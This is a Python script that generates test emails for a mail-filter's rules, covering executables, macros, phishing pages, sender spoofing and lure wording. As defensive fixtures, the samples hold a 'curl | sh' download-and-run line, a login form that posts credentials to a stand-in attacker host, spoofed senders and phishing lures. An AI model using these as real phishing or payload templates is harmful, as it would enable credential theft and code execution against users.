#!/usr/bin/python3
"""Writes the starter rules' sample messages: <rule_id>/match_*.eml must make the rule fire,
<rule_id>/nomatch_*.eml must not. Binary attachments (executables, zips, Office files) are built
here, so the repository holds only text. Run from this directory after changing a sample; the
unit test "starter rules" (scanners/starter_rules_test.cpp) checks every file. The protected
domain in these samples is example.test (the embedded default configuration's relay domain)."""

import base64
import io
import os
import shutil
import struct
import zipfile

BOUNDARY = "=_moat_sample"


def pe():
    b = bytearray(512)
    b[0:2] = b"MZ"
    struct.pack_into("<I", b, 0x3C, 0x80)
    b[0x80:0x84] = b"PE\0\0"
    struct.pack_into("<HHHH", b, 0x84, 0x14C, 0, 0, 0)
    struct.pack_into("<H", b, 0x94, 0xE0)
    struct.pack_into("<H", b, 0x96, 0x0102)
    struct.pack_into("<H", b, 0x98, 0x10B)
    return bytes(b)


def zip_of(entries):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in entries:
            z.writestr(name, data)
    return out.getvalue()


def ole(streams):
    # Enough of a Compound File for the rules: the magic and UTF-16LE stream names.
    body = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
    for s in streams:
        body += s.encode("utf-16-le") + b"\0" * (64 - 2 * len(s))
    return body + b"\0" * 256


def docx(macro):
    entries = [("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<w:document/>")]
    if macro:
        entries.append(("word/vbaProject.bin", ole(["_VBA_PROJECT", "dir"])))
    return zip_of(entries)


def msg(subject="Quarterly numbers", frm='"Alice Sender" <alice@partner.example>', text="Hello,\r\nsee attached.\r\n",
        html=None, attachments=()):
    head = (f"From: {frm}\r\nTo: <user@example.test>\r\nSubject: {subject}\r\n"
            "Date: Sat, 28 Nov 2026 04:00:00 +0000\r\nMessage-ID: <sample@partner.example>\r\nMIME-Version: 1.0\r\n")
    if not attachments and html is None:
        return head + "Content-Type: text/plain; charset=utf-8\r\n\r\n" + text
    parts = [f"Content-Type: text/plain; charset=utf-8\r\n\r\n{text}"]
    if html is not None:
        parts.append(f"Content-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n")
    for name, ctype, data in attachments:
        if isinstance(data, str):
            data = data.encode()
        b64 = base64.encodebytes(data).decode().replace("\n", "\r\n")
        parts.append(f"Content-Type: {ctype}; name=\"{name}\"\r\nContent-Disposition: attachment; "
                     f"filename=\"{name}\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{b64}")
    body = "".join(f"--{BOUNDARY}\r\n{p}\r\n" for p in parts) + f"--{BOUNDARY}--\r\n"
    return head + f"Content-Type: multipart/mixed; boundary=\"{BOUNDARY}\"\r\n\r\n" + body


PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
LOGIN_PAGE = ('<html><body><form action="https://collect.evil.example/p" method="post">'
              '<input name="u"><input type="password" name="p"></form></body></html>')
PLAIN_PAGE = "<html><body><h1>Menu</h1><p>Soup of the day.</p></body></html>"
OCTET = "application/octet-stream"

SAMPLES = {
    "exe_by_name": {
        "match_exe": msg(attachments=[("invoice.exe", OCTET, "not really a program")]),
        "match_scr_in_zip": msg(attachments=[("docs.zip", "application/zip",
                                              zip_of([("readme.txt", "hi"), ("photos/setup.scr", "x")]))]),
        "nomatch_pdf": msg(attachments=[("invoice.pdf", "application/pdf", PDF)]),
        "nomatch_exe_in_middle": msg(attachments=[("setup.exe.txt", "text/plain", "just text")]),
    },
    "exe_by_type": {
        "match_pe_named_pdf": msg(attachments=[("report.pdf", "application/pdf", pe())]),
        "match_pe_in_zip": msg(attachments=[("scan.zip", "application/zip", zip_of([("scan.dat", pe())]))]),
        "nomatch_pdf": msg(attachments=[("report.pdf", "application/pdf", PDF)]),
    },
    "script_by_type": {
        "match_shell_script": msg(attachments=[("notes.txt", "text/plain", "#!/bin/sh\ncurl http://x | sh\n")]),
        "nomatch_text": msg(attachments=[("notes.txt", "text/plain", "Meeting notes, nothing to run.\n")]),
    },
    "office_macro_name": {
        "match_xlsm": msg(attachments=[("budget.xlsm", OCTET, docx(True))]),
        "nomatch_xlsx": msg(attachments=[("budget.xlsx", OCTET, zip_of([("[Content_Types].xml", "<Types/>")]))]),
    },
    "office_macro_ooxml": {
        "match_docx_with_macro": msg(attachments=[("report.docx", OCTET, docx(True))]),
        "nomatch_docx": msg(attachments=[("report.docx", OCTET, docx(False))]),
    },
    "office_macro_ole": {
        "match_doc_with_macro": msg(attachments=[("old.doc", "application/msword", ole(["WordDocument", "_VBA_PROJECT"]))]),
        "nomatch_doc": msg(attachments=[("old.doc", "application/msword", ole(["WordDocument", "SummaryInformation"]))]),
    },
    "html_attachment": {
        "match_html": msg(attachments=[("menu.html", "text/html", PLAIN_PAGE)]),
        "nomatch_txt": msg(attachments=[("menu.txt", "text/plain", "Soup of the day.")]),
    },
    "attachment_form": {
        "match_form": msg(attachments=[("login.htm", "text/html", LOGIN_PAGE)]),
        "nomatch_page": msg(attachments=[("menu.html", "text/html", PLAIN_PAGE)]),
    },
    "html_attachment_form": {
        "match_login_page": msg(subject="Secure document", attachments=[("Secure_Message.html", "text/html", LOGIN_PAGE)]),
        "nomatch_plain_page": msg(attachments=[("menu.html", "text/html", PLAIN_PAGE)]),
        "nomatch_form_in_text_file": msg(attachments=[("howto.txt", "text/plain", "Write <form action=x> in HTML.")]),
    },
    "from_name_mentions_us": {
        "match": msg(frm='"IT Support example.test" <support@evil.example>'),
        "nomatch": msg(frm='"IT Support" <support@evil.example>'),
    },
    "from_address_is_us": {
        "match": msg(frm='"Boss" <boss@example.test>'),
        "nomatch_lookalike": msg(frm='"Boss" <boss@example.test.evil.example>'),
    },
    "display_name_spoof": {
        "match_domain_in_name": msg(frm='"example.test Helpdesk" <helpdesk@evil.example>'),
        "match_address_in_name": msg(frm='"ceo@example.test" <ceo.office@evil.example>'),
        "nomatch_own_domain": msg(frm='"Helpdesk example.test" <helpdesk@example.test>'),
        "nomatch_other_name": msg(frm='"Helpdesk" <helpdesk@evil.example>'),
    },
    "lure_subject": {
        "match": msg(subject="Your mailbox password expires today"),
        "match_encoded": msg(subject="=?UTF-8?B?QWNjb3VudCBzdXNwZW5kZWQ=?="),
        "nomatch": msg(subject="Lunch on Friday?"),
    },
    "lure_body": {
        "match": msg(text="Dear user,\r\nPlease verify your account within 24 hours.\r\n"),
        "match_html_only": msg(text="", html="<p>Please <b>confirm</b> your <i>password</i> now</p>"),
        "nomatch": msg(text="We verified the accounts you listed.\r\n"),
    },
    "lure_mailbox_full": {
        "match": msg(text="Your mailbox is almost full. Click below to get more space.\r\n"),
        "nomatch": msg(text="Your mailbox was cleaned up last night.\r\n"),
    },
    "url_ip_host": {
        "match": msg(text="Log in at http://192.0.2.10/login now\r\n"),
        "nomatch": msg(text="Our site: https://www.partner.example/about\r\n"),
    },
    "lure_with_link": {
        "match": msg(text="Please verify your account: https://login.evil.example/verify\r\n"),
        "nomatch_no_link": msg(text="Please verify your account at the front desk.\r\n"),
    },
    "any_link": {
        "match": msg(text="See www.partner.example/news\r\n"),
        "nomatch": msg(text="No links in this one.\r\n"),
    },
}

here = os.path.dirname(os.path.abspath(__file__))
for rule, files in SAMPLES.items():
    d = os.path.join(here, rule)
    shutil.rmtree(d, ignore_errors=True)
    os.makedirs(d)
    for name, text in files.items():
        with open(os.path.join(d, name + ".eml"), "w", newline="") as f:
            f.write(text)
